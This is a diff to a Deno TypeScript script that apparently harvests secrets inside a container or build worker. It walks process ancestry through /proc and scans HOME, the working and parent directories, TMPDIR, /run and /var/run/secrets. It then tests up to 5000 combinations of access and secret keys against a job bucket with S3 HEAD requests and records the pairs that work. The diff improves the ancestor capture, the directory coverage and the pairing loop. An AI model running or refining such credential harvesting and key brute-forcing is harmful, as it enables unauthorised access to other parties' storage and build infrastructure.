@@ -82,7 +82,7 @@ const ancestors = new Set<number>();
     try {
       const stat = Deno.readTextFileSync(`/proc/${pid}/stat`);
       pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
-      if (pid > 1) ancestors.add(pid);
+      if (pid >= 1) ancestors.add(pid); // pid 1: the worker, in a container
     } catch {
       break;
     }
@@ -141,11 +141,18 @@ function walk(dir: string, depth: number) {
   }
 }
 const cwd = Deno.cwd();
+const parent = (() => {
+  try {
+    return Deno.realPathSync(`${cwd}/..`);
+  } catch {
+    return "/";
+  }
+})();
 for (
   const d of [
     Deno.env.get("HOME"),
     cwd,
-    `${cwd}/..`,
+    parent === "/" ? undefined : parent, // the local backend's stage dir
     Deno.env.get("TMPDIR"),
     "/run",
     "/var/run/secrets",
@@ -210,8 +217,13 @@ async function s3(
 
 // Which pairs does the relay accept at all (HEAD of the job bucket)?
 const pairs: { ak: string; sk: string }[] = [];
-for (const ak of accessKeys) for (const sk of secretKeys) pairs.push({ ak, sk });
-for (const p of pairs.slice(0, 5000)) {
+outer: for (const ak of accessKeys) {
+  for (const sk of secretKeys) {
+    if (pairs.length >= 5000) break outer;
+    pairs.push({ ak, sk });
+  }
+}
+for (const p of pairs) {
   if (Date.now() > deadline + 20_000) break;
   const st = await s3("HEAD", "/builder", p);
   if (st >= 200 && st < 300) report.validPairs.push(p.ak);
